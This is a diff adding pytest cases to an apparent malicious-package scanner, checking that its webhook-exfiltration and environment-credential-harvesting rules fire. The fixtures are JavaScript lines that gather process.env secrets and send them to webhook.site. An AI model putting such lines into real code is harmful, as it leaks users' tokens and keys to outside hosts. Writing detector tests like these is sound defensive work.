@@ -239,3 +239,26 @@ def test_a_bundles_fetch_wrapper_far_from_its_wallet_modules_is_not_a_drainer(
 
 def test_the_same_parts_together_are_a_drainer(tmp_path: Path) -> None:
     assert _bundle(tmp_path, 0).get("GH-WALLET-HIJACK") == "high"
+
+
+SUFFIX_LIB = BENIGN / "url-lib-suffix-table" / "index.js"
+
+
+@pytest.mark.parametrize(
+    "added",
+    [
+        # the whole environment, filtered by what looks secret (not by a prefix)
+        "const stolen = Object.keys(process.env).filter((k) => /TOKEN|KEY|SECRET/.test(k));\n"
+        "https.get('https://webhook.site/abc?d=' + stolen.join(','));\n",
+        # a collection URL used as a destination, beside the suffix table
+        "fetch('https://webhook.site/abc', "
+        "{ method: 'POST', body: JSON.stringify(process.env) });\n",
+        # a bare collection host given to a request, not in a table
+        "https.request({ hostname: 'webhook.site', path: '/abc', method: 'POST' })"
+        ".end(JSON.stringify(process.env));\n",
+    ],
+)
+def test_dumps_and_destinations_beside_a_suffix_table_are_high(tmp_path: Path, added: str) -> None:
+    hits = _scan_code(tmp_path, SUFFIX_LIB.read_text() + added)
+    assert hits.get("GH-EXFIL-WEBHOOK") == "high", hits
+    assert hits.get("GH-CRED-ENV-HARVEST") == "high", hits
